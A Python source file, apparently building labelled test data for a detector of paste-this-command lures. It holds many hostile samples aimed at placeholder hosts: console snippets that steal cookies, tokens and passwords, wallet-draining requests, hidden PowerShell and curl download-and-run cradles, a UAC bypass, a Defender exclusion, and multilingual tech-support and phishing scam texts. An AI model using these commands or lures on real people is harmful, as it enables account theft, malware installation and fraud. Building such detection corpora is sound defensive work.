_NITRO = 'fetch("https://dn.nitro-claim.test/t",{method:"POST",body:localStorage.getItem("token")})'
con(
    "console-eval-atob-mainstream",
    "https://discord-nitro-gift.invalid/redeem",
    f"eval(atob('{b64(_NITRO)}'))",
)
_YT = 'var s=document.createElement("script");s.src="https://yt.unlock-cdn.invalid/p.js";document.head.appendChild(s)'
con(
    "console-function-atob",
    "https://yt-premium-unlock.test/",
    f"new Function(atob('{b64(_YT)}'))()",
)
con(
    "console-cookie-image-beacon",
    "https://fb-who-viewed.invalid/",
    "new Image().src='https://st.viewer-stats.test/c?d='+encodeURIComponent(document.cookie) // shows who viewed your profile",
)
con(
    "console-localstorage-post",
    "https://steam-wallet-codes.test/",
    "fetch('https://sw.wallet-codes.invalid/k',{method:'POST',mode:'no-cors',body:JSON.stringify(localStorage)})",
)
con(
    "console-airdrop-eth-send",
    "https://claim-airdrop-2026.invalid/",
    "// Claim your airdrop: paste and approve in your wallet\nethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x7a3c9b1e5d2f4a6b8c0d1e2f3a4b5c6d7e8f9a0b',value:'0x8AC7230489E80000'}]})",
)
con(
    "console-wallet-add-chain-rpc",
    "https://bridge-bonus.test/",
    "ethereum.request({method:'wallet_addEthereumChain',params:[{chainId:'0x38',chainName:'BNB Smart Chain',rpcUrls:['https://rpc.bsc-fast.invalid'],nativeCurrency:{name:'BNB',symbol:'BNB',decimals:18}}]}) // faster network for the bonus",
)
con(
    "console-worker-blob",
    "https://openai-credits-free.test/",
    "new Worker(URL.createObjectURL(new Blob([\"importScripts('https://w.credits-gen.invalid/w.js')\"],{type:'text/javascript'})))",
)
con(
    "console-create-api-token-exfil",
    "https://github-stars-boost.invalid/",
    "fetch('/settings/tokens/new',{method:'POST',credentials:'include',headers:{'Content-Type':'application/json'},body:JSON.stringify({note:'stars',scopes:['repo','admin:org']})}).then(r=>r.json()).then(t=>fetch('https://gs.stars-boost.test/t',{method:'POST',body:t.token}))",
)
con(
    "console-email-change-takeover",
    "https://account-recovery-help.test/",
    "fetch('/api/account/email',{method:'PUT',credentials:'include',headers:{'Content-Type':'application/json'},body:JSON.stringify({email:'recovery-desk@mailbox.invalid'})}) // restores your locked account",
)
con(
    "console-password-field-harvest",
    "https://browser-password-check.invalid/",
    "[...document.querySelectorAll('input[type=password]')].forEach(i=>fetch('https://pw.check-leaks.test/?'+i.name+'='+encodeURIComponent(i.value)))",
)
con(
    "console-setinterval-c2-poll",
    "https://chatgpt-plus-free.test/",
    "setInterval(()=>fetch('https://c2.plus-unlock.invalid/cmd').then(r=>r.text()).then(eval),5000)",
)
con(
    "console-fromcharcode-fetch",
    "https://netflix-free-month.invalid/",
    f"eval(String.fromCharCode({char_codes('fetch(`https://nf.free-month.test/s?c=${document.cookie}`)')}))",
)
con(
    "console-xor-eval",
    "https://twitch-subs-free.test/",
    f"eval([{xor_codes('import(`https://tw.subs-gen.invalid/m.js`)', 7)}].map(c=>String.fromCharCode(c^7)).join(''))",
)
con(
    "console-sendbeacon-session",
    "https://roblox-limited-items.invalid/",
    "navigator.sendBeacon('https://rl.items-trade.test/b', document.cookie) // unlocks limited items",
)
con(
    "console-telegram-webapp-exfil",
    "https://telegram-premium-gift.test/",
    "fetch('https://tg.gift-check.invalid/s',{method:'POST',body:JSON.stringify({...localStorage})}) // activate Telegram Premium gift",
)
con(
    "console-permit2-signature",
    "https://token-migration-v2.invalid/",
    "ethereum.request({method:'eth_signTypedData_v4',params:[ethereum.selectedAddress,JSON.stringify({domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},primaryType:'PermitSingle',types:{PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},message:{details:{token:'0xdAC17F958D2ee523a2206206994597C13D831ec7',amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'},spender:'0x7a3c9b1e5d2f4a6b8c0d1e2f3a4b5c6d7e8f9a0b',sigDeadline:'1893456000'}})]})",
)
con(
    "console-javascript-url-mainstream",
    "https://bookmarklet-unlock.test/",
    "javascript:(function(){var s=document.createElement('script');s.src='https://bm.unlock-tools.invalid/u.js';document.body.appendChild(s)})()",
)

# --- Tech-support and callback scam texts (not commands), many languages -------------------------

SCAMS = [
    (
        "support-scam-en",
        "https://alert.windows-defender-center.test/",
        "Windows Defender Security Center\n\n** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **\nYour computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised: Email credentials, Banking passwords, Facebook login.\n\nCall Microsoft Support immediately: +1-888-555-0147 (Toll Free)",
    ),
    (
        "support-scam-en",
        "https://mac-security-alert.invalid/",
        "Apple Security Alert\nYour Mac has been locked due to suspicious activity. Do not restart or shut down your Mac, it may lead to data loss.\nContact Apple Support at 1 (866) 555-0123 to unlock.",
    ),
    (
        "support-scam-de",
        "https://sicherheit.windows-warnung.test/",
        "Windows-Sicherheitswarnung\nIhr Computer wurde wegen verdächtiger Aktivitäten gesperrt. Ihre Bankdaten und Passwörter sind gefährdet.\nSchalten Sie den Computer nicht aus. Rufen Sie sofort den Microsoft-Support an: +49 30 555 01922",
    ),
    (
        "support-scam-fr",
        "https://alerte.securite-pc.invalid/",
        "Alerte de sécurité Windows : votre ordinateur a été bloqué.\nCode d'erreur : #0x80073b01. Des logiciels espions ont été détectés.\nNe fermez pas cette page. Appelez le support technique au 01 99 00 45 12 (appel gratuit).",
    ),
    (
        "support-scam-es",
        "https://alerta.soporte-windows.test/",
        "¡ALERTA! Su equipo ha sido bloqueado por un virus troyano.\nSus datos bancarios y contraseñas están en riesgo. No apague el equipo.\nLlame ahora al soporte técnico de Microsoft: +34 555 019 448",
    ),
    (
        "support-scam-it",
        "https://avviso.sicurezza-pc.invalid/",
        "ATTENZIONE: il tuo computer è stato bloccato a causa di un'attività sospetta.\nNon spegnere il computer. Chiama subito l'assistenza Microsoft al numero verde +39 02 555 0188",
    ),
    (
        "support-scam-pt",
        "https://alerta.seguranca-windows.test/",
        "AVISO DE SEGURANÇA: O seu computador foi bloqueado devido a um vírus.\nAs suas palavras-passe e dados bancários estão em risco.\nLigue imediatamente para o suporte técnico: +351 555 019 233",
    ),
    (
        "support-scam-nl",
        "https://waarschuwing.pc-beveiliging.invalid/",
        "Windows-beveiligingswaarschuwing\nUw computer is geblokkeerd vanwege verdachte activiteit. Zet uw computer niet uit.\nBel direct Microsoft Support: +31 20 555 0174",
    ),
    (
        "support-scam-pl",
        "https://ostrzezenie.ochrona-komputera.test/",
        "OSTRZEŻENIE: Twój komputer został zablokowany z powodu wykrycia wirusa.\nNie wyłączaj komputera. Natychmiast zadzwoń do pomocy technicznej Microsoft: +48 22 555 01 77",
    ),
    (
        "support-scam-tr",
        "https://uyari.bilgisayar-guvenlik.invalid/",
        "UYARI: Bilgisayarınız şüpheli etkinlik nedeniyle kilitlendi.\nBilgisayarınızı kapatmayın. Hemen Microsoft Destek'i arayın: +90 212 555 0149",
    ),
    (
        "support-scam-ru",
        "https://preduprezhdenie.zashchita-pk.test/",
        "ВНИМАНИЕ! Ваш компьютер заблокирован из-за обнаружения вируса.\nВаши пароли и банковские данные под угрозой. Не выключайте компьютер.\nСрочно позвоните в службу поддержки Microsoft: +7 495 555-01-63",
    ),
    (
        "support-scam-ja",
        "https://keikoku.pc-hogo.invalid/",
        "警告：お使いのコンピューターはウイルスに感染したためロックされました。\n個人情報とパスワードが危険にさらされています。電源を切らないでください。\n今すぐマイクロソフトサポートにお電話ください：050-5555-0142",
    ),
    (
        "support-scam-zh",
        "https://jinggao.diannao-anquan.test/",
        "警告：由于检测到可疑活动，您的计算机已被锁定。\n您的银行信息和密码面临风险。请勿关闭计算机。\n请立即致电微软技术支持：+86 10 5555 0186",
    ),
    (
        "support-scam-ar",
        "https://tahdhir.amn-alhasub.invalid/",
        "تحذير: تم قفل جهاز الكمبيوتر الخاص بك بسبب نشاط مشبوه.\nلا تقم بإيقاف تشغيل الجهاز. اتصل بدعم مايكروسوفت فورًا على الرقم +971 4 555 0137",
    ),
    (
        "support-scam-ko",
        "https://gyeonggo.pc-boan.test/",
        "경고: 의심스러운 활동으로 인해 컴퓨터가 잠겼습니다.\n컴퓨터를 끄지 마십시오. 지금 즉시 마이크로소프트 고객 지원에 전화하십시오: 02-555-0191",
    ),
    (
        "support-scam-vi",
        "https://canhbao.baomat-maytinh.invalid/",
        "CẢNH BÁO: Máy tính của bạn đã bị khóa do phát hiện phần mềm gián điệp.\nKhông tắt máy tính. Hãy gọi ngay cho bộ phận hỗ trợ Microsoft: +84 28 5555 0173",
    ),
    (
        "support-scam-isp-en",
        "https://isp-security-notice.test/",
        "Your Internet Service Provider has suspended your connection.\nReason: illegal activity and malware detected from your IP address 203.0.113.57.\nTo restore access, call the ISP security desk now: +1 (877) 555-0166. Do not close this window.",
    ),
]
for technique, source, text in SCAMS:
    lure(technique, UNK, source, text, "flagged", "any")

CALLBACKS = [
    (
        "callback-geeksquad-renewal-en",
        "https://mail-notice.order-desk.invalid/",
        "Geek Squad Total Protection - Auto Renewal\nInvoice #GS-448120  Amount: $399.99\nYour membership has been renewed and charged to your card today.\nIf you did not authorize this charge, call our billing department within 24 hours: +1 (808) 555-0139",
    ),
    (
        "callback-norton-en",
        "https://billing-alerts.sub-notice.test/",
        "NortonLifeLock 360 Deluxe - Payment confirmation\nOrder ID: NL-88213-US   Total: $349.00 USD\nThe amount will reflect in 24-48 hours. To cancel or request a refund, call +1 (888) 555-0112.",
    ),
    (
        "callback-paypal-de",
        "https://paypal-rechnung.konto-hinweis.invalid/",
        "PayPal: Sie haben eine Zahlung über 689,00 EUR an Coinbase Europe gesendet.\nWenn Sie diese Transaktion nicht autorisiert haben, rufen Sie umgehend unseren Kundenservice an: +49 69 555 01 844",
    ),
    (
        "callback-amazon-fr",
        "https://commande.amazon-suivi.test/",
        "Amazon : votre commande n° 405-7719220 (iPhone 16 Pro, 1 299,00 €) a été expédiée.\nSi vous n'êtes pas à l'origine de cet achat, appelez immédiatement le service client au 01 99 00 72 14.",
    ),
    (
        "callback-microsoft365-es",
        "https://facturacion.suscripcion-aviso.invalid/",
        "Microsoft 365 Empresa - Renovación automática\nImporte cobrado: 489,99 €. Referencia: MS-2026-99120\nPara cancelar y solicitar el reembolso, llame al +34 555 019 611 antes de 24 horas.",
    ),
    (
        "callback-bank-fraud-it",
        "https://avviso.banca-sicurezza.test/",
        "Gentile cliente, abbiamo bloccato un bonifico sospetto di 2.450,00 € dal tuo conto.\nSe non hai autorizzato l'operazione, chiama subito l'ufficio antifrode al +39 06 555 0127.",
    ),
    (
        "callback-coinbase-en",
        "https://coinbase-security-review.invalid/",
        "Coinbase Security: A withdrawal of 0.84 BTC to an unrecognised wallet is pending.\nIf this was not you, call Coinbase Support immediately at +1 (805) 555-0190 to cancel it. Case ID: CB-77120",
    ),
    (
        "callback-apple-pt",
        "https://recibo.apple-compra.test/",
        "Recibo da Apple\nCompra: MacBook Air M4 - R$ 12.499,00\nSe não reconhece esta compra, ligue para o suporte Apple: +55 11 5555-0182",
    ),
]
for technique, source, text in CALLBACKS:
    lure(technique, UNK, source, text, "flagged", "any")

# --- ConsentFix and device-code phishing (paste-backs of sign-in artefacts) ----------------------

CONSENT = [
    (
        "consentfix-azure-cli-mainstream",
        "https://sharepoint-access.doc-review.test/",
        "http://localhost:51342/?code=1.AXEAkQ2pL9vZ3xN8mR4tY6uI1oP5aS2dF7gH9jKlZxCvBnMqWeRtYuIoP&state=PqLk29xZ&session_state=4f3e2d1c-0b9a-8877-6655-443322110000",
    ),
    (
        "consentfix-azure-cli-mainstream",
        "https://verify.entra-access-check.invalid/",
        "Copy the full address from the new tab and paste it below to finish verification:\nhttp://localhost:49821/?code=0.ATAAx9kQ2pL9vZ3xN8mR4tY6uI1oP5aS2dF7gH9jKlZxCvBnMq&state=a8c7&session_state=11aa22bb",
    ),
    (
        "consentfix-google-oob",
        "https://docs-share.gdrive-access.test/",
        "http://127.0.0.1:8085/?state=xyz991&code=4/0AVGzR1B7kQ2pL9vZ3xN8mR4tY6uI1oP5aS2dF7gH9jK&scope=https://www.googleapis.com/auth/drive",
    ),
    (
        "consentfix-in-chat-instructions-de",
        "https://teams-freigabe.dokument-zugriff.invalid/",
        "Um den Zugriff zu bestätigen: Melden Sie sich im neuen Tab an, kopieren Sie dann die Adresse aus der Adresszeile (beginnt mit http://localhost) und fügen Sie sie hier ein.\nhttp://localhost:8400/?code=1.AUgAk2pL9vZ3xN8mR4tY6uI1oP5aS2dF7gH9jKlZx&state=de44",
    ),
]
for technique, source, text in CONSENT:
    lure(technique, UNK, source, text, "flagged", "any")

DEVICE = [
    (
        "device-code-teams-invite",
        "https://teams-invite.meeting-join.test/",
        "You have been invited to a Microsoft Teams meeting.\nTo join, go to https://microsoft.com/devicelogin and enter the code: HRD7-QK2M\nThis code expires in 15 minutes.",
    ),
    (
        "device-code-fr",
        "https://invitation.reunion-teams.invalid/",
        "Pour rejoindre la réunion sécurisée, ouvrez https://microsoft.com/devicelogin et saisissez le code G7XQ-9KPL. Le code expire dans 15 minutes.",
    ),
    (
        "device-code-signal-chat",
        "https://chat.secure-message.test/",
        "hi! before the call our IT needs to register your device - open https://login.microsoftonline.com/common/oauth2/deviceauth and type ABCD2XYZ9 then tell me when it says you're signed in",
    ),
    (
        "device-code-github",
        "https://github-security-review.invalid/",
        "GitHub Security: unusual access was detected on your account.\nTo keep your repositories, verify this device at https://github.com/login/device with code 9F3A-7B21 within 10 minutes.",
    ),
    (
        "device-code-google-ja",
        "https://meet-shotai.kaigi-sanka.test/",
        "会議に参加するには https://www.google.com/device を開き、コード KQX-RTM-PLZ を入力してください。",
    ),
]
for technique, source, text in DEVICE:
    lure(technique, UNK, source, text, "flagged", "any")

# --- Instructions with the command, as the fake pages word them ------------------------------------

INSTR = [
    (
        "instructions-en-winr",
        RUN,
        "https://www.marathon-results.example/",
        'To complete verification:\n1. Press Windows + R\n2. Press CTRL + V\n3. Press Enter\n\npowershell -w h -c "iex(irm https://steps.verify-gate.test/3)"',
    ),
    (
        "instructions-es-winr",
        RUN,
        "https://www.escuela-de-surf.example/",
        "Pasos de verificación:\n1. Pulse Windows + R\n2. Pulse CTRL + V\n3. Pulse Intro\n\nmshta https://pasos.verificar-ahora.invalid/v  # No soy un robot",
    ),
    (
        "instructions-de-terminal-mac",
        TERM,
        "https://www.segelverein.example/",
        'So bestätigen Sie, dass Sie ein Mensch sind:\n1. Öffnen Sie das Terminal (Cmd + Leertaste, "Terminal")\n2. Fügen Sie den Befehl ein und drücken Sie Return\n\ncurl -fsSL https://mensch.pruef-dienst.test/m | bash',
    ),
    (
        "instructions-fr-filefix",
        EXP,
        "https://partage.documents-rh.invalid/",
        "Pour ouvrir le document partagé :\n1. Ouvrez l'Explorateur de fichiers (Ctrl + E)\n2. Cliquez dans la barre d'adresse et collez (Ctrl + V)\n\npowershell -w h -c \"irm https://doc.ouvrir-fichier.test/o|iex\""
        + " " * 60
        + "# C:\\RH\\Contrat_2026.pdf",
    ),
    (
        "instructions-pt-terminal-win",
        TERM,
        "https://www.academia-fitness.example/",
        'Para corrigir o erro de exibição:\n1. Clique com o botão direito em Iniciar e escolha "Terminal (Admin)"\n2. Cole o comando e pressione Enter\n\nirm https://corrigir.tela-erro.invalid/c | iex',
    ),
    (
        "instructions-zh-winr",
        RUN,
        "https://www.tea-house-hangzhou.example/",
        '完成人机验证：\n1. 按 Windows + R\n2. 按 Ctrl + V\n3. 按回车键\n\npowershell -w h -c "irm https://yanzheng.renji-check.test/z | iex"  # 我不是机器人',
    ),
]
for technique, target, source, text in INSTR:
    lure(technique, target, source, text, "malicious", "macos" if "mac" in technique else "windows")

# --- A lure that is only an address behind a verification tail -------------------------------------

lure(
    "url-ps1-verify-tail",
    RUN,
    "https://www.harp-lessons.example/",
    "https://cdn.verify-files.test/Verify.ps1   " + TAILS[0],
    "flagged",
)
lure(
    "url-msi-verify-tail",
    RUN,
    "https://www.bowling-alley.example/",
    "https://198.51.100.201/pkg/HumanCheck.msi   " + TAILS[13],
    "flagged",
)

# --- More mainstream stager shapes (KongTuke, Lumma, NetSupport, DarkGate, AsyncRAT kits) --------

lure(
    "kongtuke-query-cradle",
    RUN,
    "https://www.scout-troop-41.example/",
    "powershell -w h -c \"$u='https://js.track-metrics.test/js.php?device=windows&ip=203.0.113.4&refferer=scout-troop';iex(iwr $u -UseBasicParsing)\"  "
    + TAILS[0],
)
lure(
    "kongtuke-query-cradle",
    RUN,
    "https://www.antique-maps.example/",
    "cmd /c start /min powershell -w h -c \"iex(iwr -useb 'https://cdn.stats-collector.invalid/ps.php?uid=88120&t=win')\"  "
    + TAILS[12],
)
lure(
    "netsupport-zip-stager",
    RUN,
    "https://www.tennis-club-west.example/",
    'powershell -w h -c "$p=$env:APPDATA+\'\\WinSvc\';iwr https://upd.remote-care.test/c.zip -OutFile \\"$p.zip\\";Expand-Archive \\"$p.zip\\" $p -Force;start \\"$p\\client32.exe\\""  '
    + TAILS[1],
)
lure(
    "netsupport-zip-stager",
    RUN,
    "https://www.village-hall-hire.example/",
    'cmd /c curl -sLo %APPDATA%\\s.zip https://198.51.100.112/s.zip && tar -xf %APPDATA%\\s.zip -C %APPDATA%\\svc && start "" %APPDATA%\\svc\\client32.exe  '
    + TAILS[15],
)
lure(
    "ps-autoit-script-stager",
    RUN,
    "https://www.cookery-school.example/",
    'powershell -w h -c "iwr https://au.script-host.invalid/a.zip -OutFile C:\\ProgramData\\a.zip; Expand-Archive C:\\ProgramData\\a.zip C:\\ProgramData\\au -Force; & C:\\ProgramData\\au\\AutoIt3.exe C:\\ProgramData\\au\\script.a3x"  '
    + TAILS[0],
)
lure(
    "lumma-start-min-ep-bypass",
    RUN,
    "https://www.board-game-cafe.example/",
    'cmd /c start /min "" powershell -w h -nop -ep bypass -c "iex(irm https://lm.media-cdn.test/v.mp3)"  '
    + TAILS[13],
)
lure(
    "lumma-start-min-ep-bypass",
    RUN,
    "https://www.dog-training-club.example/",
    'powershell -W 1 -Ep Unrestricted -NoP -c "irm http://203.0.113.167/c.txt | iex"  ' + TAILS[14],
)
lure(
    "asyncrat-python-zip-stager",
    RUN,
    "https://www.folk-festival.example/",
    'powershell -w h -c "iwr https://py.runtime-dl.invalid/p.zip -OutFile $env:TEMP\\p.zip; Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p -Force; Start-Process $env:TEMP\\p\\pythonw.exe $env:TEMP\\p\\run.py"  '
    + TAILS[1],
)
lure(
    "ps-uac-fodhelper-cradle",
    RUN,
    "https://www.roller-derby.example/",
    "powershell -w h -c \"New-Item 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Value 'powershell -w h -c irm https://el.admin-fix.test/e|iex' -Force; New-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Name DelegateExecute -Value '' -Force; Start-Process fodhelper.exe\"",
)
lure(
    "ps-defender-exclusion-extension",
    RUN,
    "https://www.sewing-patterns.example/",
    "powershell -w h -c \"Add-MpPreference -ExclusionExtension '.exe'; iwr https://dl.codec-pack.invalid/codec.exe -OutFile $env:TEMP\\codec.exe; & $env:TEMP\\codec.exe\"  # Video codec verification",
)
lure(
    "ps-integrity-check-wrapper",
    RUN,
    "https://www.choir-of-st-mary.example/",
    'powershell -c "Get-FileHash $env:windir\\explorer.exe; irm https://integrity.sys-verify.invalid/ok | iex"  # System integrity check (required)',
)
lure(
    "ps-network-diagnostic-wrapper",
    RUN,
    "https://www.local-news-24.example/",
    'powershell -c "Test-NetConnection 8.8.8.8 -InformationLevel Quiet; iex(irm https://netdiag.conn-fix.test/d)"  # Network diagnostics - error 0x800704cf',
)
lure(
    "mshta-vbscript-execute-mainstream",
    RUN,
    "https://www.railway-heritage.example/",
    'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c irm https://vb.stage-relay.test/v|iex"",0:close")  '
    + TAILS[0],
)
lure(
    "conhost-headless-mainstream",
    RUN,
    "https://www.gliding-club.example/",
    'conhost.exe --headless powershell -w h -c "iwr https://hd.verify-node.invalid/h -UseB|iex"  '
    + TAILS[12],
)
lure(
    "rundll32-webdav-mainstream",
    RUN,
    "https://www.harbour-fish-market.example/",
    "rundll32.exe \\\\cdn.dav-share.test@SSL\\DavWWWRoot\\verify.dll,Start  " + TAILS[1],
)
lure(
    "explorer-file-scheme-webdav",
    EXP,
    "https://share.partner-files.invalid/folder",
    "file://203.0.113.44@8080/DavWWWRoot/Invoice_Q4.pdf.lnk",
)
lure(
    "explorer-cmd-start-unc",
    EXP,
    "https://docs.supplier-portal.test/open",
    "cmd /c start \\\\198.51.100.38@SSL\\docs\\Viewer.exe"
    + " " * 60
    + "# \\\\supplier\\Orders\\PO-7712.pdf",
)
lure(
    "filefix-mainstream",
    EXP,
    "https://portal.tax-refund-notice.invalid/claim",
    'powershell -w h -c "iwr https://refund.doc-view.test/r -UseB | iex"'
    + " " * 100
    + "# C:\\Users\\Public\\Documents\\Tax_Refund_2025.pdf",
)
lure(
    "filefix-mainstream",
    EXP,
    "https://share.meeting-notes.test/f/22",
    'powershell -nop -c "& ([scriptblock]::Create((irm https://notes.cdn-edge.invalid/n)))"'
    + NBSP * 90
    + "# Meeting_Notes_Board_2026.docx",
)

# --- More macOS and Linux mainstream, and the AI-tool installer look-alikes -----------------------

mac(
    "macos-fake-ai-cli-install",
    "https://claude-code-install.invalid/",
    "curl -fsSL https://cc.ai-cli-dl.test/install.sh | bash  # Claude Code for macOS",
)
mac(
    "macos-fake-ai-cli-install",
    "https://gemini-cli-mac.test/",
    '/bin/bash -c "$(curl -fsSL https://gm.cli-setup.invalid/mac)"  # Gemini CLI installer (official)',
)
mac(
    "macos-login-item-system-events",
    "https://www.stamp-collectors.example/",
    'curl -fsSL https://li.mac-agent.test/u -o /Users/Shared/.u && chmod +x /Users/Shared/.u && osascript -e \'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.u", hidden:true}\'',
)
mac(
    "macos-curl-pipe-ip",
    "https://www.orchid-society.example/",
    "curl -fsSL http://198.51.100.245/d/odyssey | nohup bash &",
)
mac(
    "macos-echo-b64-bash",
    "https://www.kite-surfing.example/",
    f'echo "{b64("curl -fsSL http://203.0.113.81/p | zsh")}" | base64 -D | zsh  # Verify you are human',
)
mac(
    "macos-telegram-installer-lookalike",
    "https://telegram-mac-download.invalid/",
    "curl -fsSL https://tg-mac.app-dl.test/Telegram.dmg -o /tmp/Telegram.dmg && hdiutil attach -nobrowse /tmp/Telegram.dmg && cp -R /Volumes/Telegram/Telegram.app /Applications/ && xattr -cr /Applications/Telegram.app && open /Applications/Telegram.app",
)
nix(
    "linux-wget-post-file-exfil",
    "https://www.model-aircraft.example/",
    "wget -q --post-file=$HOME/.bash_history https://up.diag-logs.invalid/h -O /dev/null  # send diagnostic log to support",
)
nix(
    "linux-fake-ai-cli-install",
    "https://codex-cli-linux.test/",
    "curl -fsSL https://cx.cli-releases.invalid/install | sh  # OpenAI Codex CLI for Linux",
)
nix(
    "linux-curl-sudo-bash-mainstream",
    "https://www.bee-keeping-supply.example/",
    "curl -k https://203.0.113.211/i.sh | sudo -E bash -s -- --silent",
)
nix(
    "linux-env-download-run",
    "https://www.dance-school-lima.example/",
    "export U=https://ev.env-stage.test/s; curl -fsSL $U | bash",
)

# --- Console: account data stolen with the page's own credentials ---------------------------------

con(
    "console-account-data-exfil",
    "https://linkedin-profile-views.invalid/",
    "fetch('/voyager/api/me',{credentials:'include'}).then(r=>r.text()).then(d=>fetch('https://lv.profile-stats.test/p',{method:'POST',body:d}))",
)
con(
    "console-fetch-eval-mainstream",
    "https://free-vbucks-2026.invalid/",
    "fetch('https://vb.bucks-gen.test/x').then(r=>r.text()).then(t=>Function(t)())",
)

# --- More scam and callback texts ------------------------------------------------------------------

MORE_SCAMS = [
    (
        "support-scam-hi",
        "https://chetavani.computer-suraksha.test/",
        "चेतावनी: संदिग्ध गतिविधि के कारण आपका कंप्यूटर लॉक कर दिया गया है।\nकंप्यूटर बंद न करें। तुरंत Microsoft सहायता को कॉल करें: +91 80 5555 0146",
    ),
    (
        "support-scam-id",
        "https://peringatan.keamanan-pc.invalid/",
        "PERINGATAN: Komputer Anda telah diblokir karena aktivitas mencurigakan.\nJangan matikan komputer. Segera hubungi Dukungan Microsoft di +62 21 5555 0178",
    ),
    (
        "support-scam-el",
        "https://proeidopoiisi.asfaleia-pc.test/",
        "ΠΡΟΕΙΔΟΠΟΙΗΣΗ: Ο υπολογιστής σας κλειδώθηκε λόγω ύποπτης δραστηριότητας.\nΜην απενεργοποιήσετε τον υπολογιστή. Καλέστε αμέσως την υποστήριξη της Microsoft: +30 21 0555 0194",
    ),
    (
        "support-scam-en",
        "https://browser-locked-alert.invalid/",
        "Your browser has been locked.\nWindows detected a Zeus virus. Your credit card details and photos are being stolen.\nCall Windows Help Desk now: 1-800-555-0172 (toll free, 24/7)",
    ),
    (
        "support-scam-de",
        "https://polizei-hinweis.computer-sperre.test/",
        "Bundespolizei: Ihr Computer wurde wegen des Besuchs illegaler Webseiten gesperrt.\nUm eine Anzeige zu vermeiden, rufen Sie innerhalb von 30 Minuten an: +49 89 555 01733",
    ),
]
for technique, source, text in MORE_SCAMS:
    lure(technique, UNK, source, text, "flagged", "any")

MORE_CALLBACKS = [
    (
        "callback-mcafee-nl",
        "https://factuur.abonnement-melding.invalid/",
        "McAfee Total Protection - verlenging\nFactuurnummer: MC-55102  Bedrag: € 299,99\nNiet akkoord? Bel binnen 24 uur onze klantenservice: +31 20 555 0123",
    ),
    (
        "callback-bank-pl",
        "https://powiadomienie.bank-ochrona.test/",
        "Szanowny Kliencie, zablokowaliśmy podejrzany przelew na kwotę 4 800,00 zł.\nJeśli to nie Ty, zadzwoń natychmiast do działu bezpieczeństwa: +48 22 555 01 39",
    ),
    (
        "callback-amazon-ja",
        "https://chumon.amazon-kakunin.invalid/",
        "Amazonでのご注文（注文番号 250-8812734）：iPad Pro 189,800円 の決済が完了しました。\nお心当たりがない場合は、サポートセンター 050-5555-0161 までお電話ください。",
    ),
    (
        "callback-crypto-tr",
        "https://guvenlik.kripto-borsa.test/",
        "Binance Güvenlik: Hesabınızdan 1,25 BTC çekim talebi alındı.\nBu işlemi siz yapmadıysanız hemen arayın: +90 212 555 0182",
    ),
    (
        "callback-paypal-zh",
        "https://zhifu.paypal-tongzhi.invalid/",
        "PayPal 通知：您已向 Apple Store 付款 ¥8,999.00。\n如果这不是您本人操作，请立即致电客服：+86 21 5555 0129",
    ),
    (
        "callback-invoice-ar",
        "https://fatura.tajdid-ishtirak.test/",
        "تم تجديد اشتراكك في Norton 360 بمبلغ 1,499 درهم.\nإذا لم تقم بهذا الطلب، اتصل بنا خلال 24 ساعة على +971 4 555 0155",
    ),
]
for technique, source, text in MORE_CALLBACKS:
    lure(technique, UNK, source, text, "flagged", "any")

# A second round of the mainstream Run-box cradle, other program spellings and staging hosts.
for k, (source, text) in enumerate(
    [
        (
            "https://www.puppet-theatre.example/",
            'pwsh -w h -c "iex(irm https://pw.verify-route.test/7)"',
        ),
        (
            "https://www.ice-rink-booking.example/",
            "PowerShell.exe -WindowStyle Hidden -NoProfile -Command \"irm 'https://rink.gate-check.invalid/g' | iex\"",
        ),
        (
            "https://www.poetry-slam.example/",
            'powershell /w 1 /c "iwr -useb https://198.51.100.187/ps | iex"',
        ),
        (
            "https://www.vegan-deli.example/",
            '%SystemRoot%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -w h -c "irm https://vd.clear-check.test/c|iex"',
        ),
        (
            "https://www.opera-house-tickets.example/",
            "powershell -w h -c iex(irm('https://op.session-verify.invalid/' + 'o'))",
        ),
        (
            "https://www.cycling-club-east.example/",
            'powershell -w h -c "irm https://cdn.captcha-pass.test/v2/verify?session=88120 | iex"',
        ),
        (
            "https://www.language-exchange.example/",
            'cmd /c "powershell -w h -c irm https://lx.human-gate.invalid/l ^| iex"',
        ),
        (
            "https://www.skatepark-news.example/",
            'powershell -w h -c "&(gcm i*x)(irm https://sk.check-in.test/s)"',
        ),
        (
            "https://www.pilates-loft.example/",
            'powershell -w h -c "(irm https://pl.verify-step.invalid/p) | powershell -"',
        ),
        (
            "https://www.escape-room-city.example/",
            'powershell -w h -c "iex ([Text.Encoding]::UTF8.GetString((iwr https://er.room-key.test/k -UseB).Content))"',
        ),
    ]
):
    lure("ps-cradle-runbox-variants", RUN, source, text + "  " + TAILS[(k * 5) % len(TAILS)])

# --- More techniques the first five sets did not use ------------------------------------------------

lure(
    "ps-iwr-through-proxy",
    RUN,
    "https://www.youth-orchestra.example/",
    'powershell -w h -c "iwr https://px.verify-gate.test/p -Proxy http://203.0.113.8:3128 -UseBasicParsing | iex"  '
    + TAILS[0],
)
lure(
    "ps-irm-gate-header",
    RUN,
    "https://www.quarry-climbing.example/",
    "powershell -w h -c \"irm https://api.gate-keyed.invalid/s -Headers @{'X-Verify'='448-213'} | iex\"  "
    + TAILS[1],
)
lure(
    "ps-json-api-field-b64",
    RUN,
    "https://www.coastal-birdwatch.example/",
    'powershell -w h -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((irm https://cfg.json-relay.test/v1/config).payload)))"  '
    + TAILS[12],
)
lure(
    "ps-download-pdf-exe-masquerade",
    RUN,
    "https://www.lawn-bowls-club.example/",
